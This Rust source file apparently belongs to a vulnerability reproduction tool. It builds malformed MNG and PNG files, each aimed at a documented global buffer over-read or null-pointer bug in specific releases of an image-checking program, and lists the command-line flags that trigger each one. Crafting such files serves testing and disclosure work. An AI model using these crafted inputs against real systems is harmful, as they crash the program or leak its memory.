//! Scenario tables and their chunk builders.

use super::Scenario;
use crate::core::chunk::{
    nEED, sCAL, Chunk, ChunkType, DBYK, DISC, DROP, IDAT, IEND, IHDR, LOOP, MEND, MHDR, ORDR,
    PAST, PPLT, SAVE, SEEK,
};
use crate::core::ContainerFormat;
use crate::error::Result;
use crate::utils::compression::zlib_compress;

/// MHDR for a 1x1 frame: width(4) height(4), then ticks, layer count, frame
/// count, play time and simplicity profile all zero.
const MHDR_1X1: [u8; 28] = [
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
];

/// IHDR for a 1x1, 8-bit truecolour, non-interlaced image.
const IHDR_1X1_RGB8: [u8; 13] = [
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00, 0x00,
];

/// MHDR, one malicious chunk, MEND.
fn mng_with(chunk_type: ChunkType, payload: Vec<u8>) -> Result<Vec<Chunk>> {
    Ok(vec![
        Chunk::new(MHDR, &MHDR_1X1[..])?,
        Chunk::new(chunk_type, payload)?,
        Chunk::empty(MEND),
    ])
}

fn concat(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

// chunk_name(4) + polarity(1) + (keyword(1) + separator(1)) * 20000
fn dbyk_keywords() -> Result<Vec<Chunk>> {
    mng_with(DBYK, concat(&[b"iCCP\x00", &b"A\x00".repeat(20000)]))
}

// discard_id(2) * 20000
fn disc_ids() -> Result<Vec<Chunk>> {
    mng_with(DISC, b"\x00\x01".repeat(20000))
}

// chunk_name(4) * 10000
fn drop_names() -> Result<Vec<Chunk>> {
    mng_with(DROP, b"ABCD".repeat(10000))
}

// nest_level(1) + iteration_count(4) + termination_condition(1)
// + iteration_min(4) * 10000
fn loop_iterations() -> Result<Vec<Chunk>> {
    mng_with(
        LOOP,
        concat(&[
            b"\x00",
            b"\x00\x00\x00\x01",
            b"\x00",
            &b"\x00\x00\x00\x01".repeat(10000),
        ]),
    )
}

// (keyword(1) + separator(1)) * 20000
fn need_keywords() -> Result<Vec<Chunk>> {
    mng_with(nEED, b"A\x00".repeat(20000))
}

// keyword(40000) with no separator
fn need_unterminated() -> Result<Vec<Chunk>> {
    mng_with(nEED, b"A".repeat(40000))
}

// (chunk_name(4) + order_type(1)) * 8000
fn ordr_entries() -> Result<Vec<Chunk>> {
    mng_with(ORDR, b"tEXt\x00".repeat(8000))
}

// destination_id(2) + target_delta_type(1) + target_x(4) + target_y(4)
// + source record(30) * 1500
fn past_sources() -> Result<Vec<Chunk>> {
    mng_with(
        PAST,
        concat(&[b"\x00\x01", b"\x00", &[0u8; 8], &[0u8; 30 * 1500]]),
    )
}

// delta_type(1) + first_index(1) + last_index(1) + samples(40000)
fn pplt_samples() -> Result<Vec<Chunk>> {
    mng_with(PPLT, concat(&[b"\x04", b"\x00\xff", &b"A".repeat(40000)]))
}

// delta_type(1) + (first_index(1) + last_index(1)) * 64
// last_index 0x00 < first_index 0xff makes the sample count wrap by 256.
fn pplt_inverted_ranges() -> Result<Vec<Chunk>> {
    mng_with(PPLT, concat(&[b"\x04", &b"\xff\x00".repeat(64)]))
}

// offset_size(1) + 40000 bytes of entries
fn save_entries() -> Result<Vec<Chunk>> {
    mng_with(SAVE, concat(&[b"\x04", &[0u8; 40000]]))
}

// a valid SAVE first, then segment_name(40000)
fn seek_name() -> Result<Vec<Chunk>> {
    Ok(vec![
        Chunk::new(MHDR, &MHDR_1X1[..])?,
        Chunk::new(SAVE, &b"\x04test\x00"[..])?,
        Chunk::new(SEEK, b"A".repeat(40000))?,
        Chunk::empty(MEND),
    ])
}

// unit_specifier(1) + pixel_width, with the separator and pixel_height missing
fn scal_missing_height() -> Result<Vec<Chunk>> {
    Ok(vec![
        Chunk::new(IHDR, &IHDR_1X1_RGB8[..])?,
        Chunk::new(sCAL, &b"\x011.0"[..])?,
        Chunk::new(IDAT, zlib_compress(&[0, 0, 0])?)?,
        Chunk::empty(IEND),
    ])
}

const LOOP_SCENARIO: Scenario = Scenario {
    name: "loop",
    chunk: "LOOP",
    summary: "iteration count not checked against chunk length (global buffer over-read)",
    format: ContainerFormat::Mng,
    trigger: &["-v"],
    build: loop_iterations,
};

pub(super) static RELEASE_2_4_0: &[Scenario] = &[
    Scenario {
        name: "dbyk",
        chunk: "DBYK",
        summary: "keyword list walks past the chunk buffer (global buffer over-read)",
        format: ContainerFormat::Mng,
        trigger: &["-f"],
        build: dbyk_keywords,
    },
    Scenario {
        name: "disc",
        chunk: "DISC",
        summary: "unchecked sz when listing discard ids (global buffer over-read)",
        format: ContainerFormat::Mng,
        trigger: &["-v"],
        build: disc_ids,
    },
    Scenario {
        name: "drop",
        chunk: "DROP",
        summary: "unchecked sz when listing dropped chunk names (global buffer over-read)",
        format: ContainerFormat::Mng,
        trigger: &[],
        build: drop_names,
    },
    LOOP_SCENARIO,
    Scenario {
        name: "need",
        chunk: "nEED",
        summary: "unchecked sz when scanning keywords (global buffer over-read)",
        format: ContainerFormat::Mng,
        trigger: &["-v"],
        build: need_keywords,
    },
    Scenario {
        name: "need-flat",
        chunk: "nEED",
        summary: "single unterminated keyword runs past the chunk buffer (global buffer over-read)",
        format: ContainerFormat::Mng,
        trigger: &["-v"],
        build: need_unterminated,
    },
    Scenario {
        name: "ordr",
        chunk: "ORDR",
        summary: "unchecked sz when listing ordering entries (global buffer over-read)",
        format: ContainerFormat::Mng,
        trigger: &[],
        build: ordr_entries,
    },
    Scenario {
        name: "past",
        chunk: "PAST",
        summary: "unchecked sz when walking source records (global buffer over-read)",
        format: ContainerFormat::Mng,
        trigger: &["-f"],
        build: past_sources,
    },
    Scenario {
        name: "pplt",
        chunk: "PPLT",
        summary: "unchecked sz when reading palette samples (global buffer over-read)",
        format: ContainerFormat::Mng,
        trigger: &[],
        build: pplt_samples,
    },
    Scenario {
        name: "save",
        chunk: "SAVE",
        summary: "unchecked sz when walking save entries (global buffer over-read)",
        format: ContainerFormat::Mng,
        trigger: &["-v"],
        build: save_entries,
    },
    Scenario {
        name: "seek",
        chunk: "SEEK",
        summary: "unchecked sz when printing the segment name (global buffer over-read)",
        format: ContainerFormat::Mng,
        trigger: &["-v"],
        build: seek_name,
    },
    Scenario {
        name: "scal",
        chunk: "sCAL",
        summary: "pixel height pointer left null when the separator is missing",
        format: ContainerFormat::Png,
        trigger: &["-f"],
        build: scal_missing_height,
    },
];

pub(super) static RELEASE_3_0_0: &[Scenario] = &[
    Scenario {
        name: "pplt",
        chunk: "PPLT",
        summary: "last index below first index inflates the sample count (global buffer over-read)",
        format: ContainerFormat::Mng,
        trigger: &[],
        build: pplt_inverted_ranges,
    },
    LOOP_SCENARIO,
];

pub(super) static RELEASE_3_0_1: &[Scenario] = &[LOOP_SCENARIO];
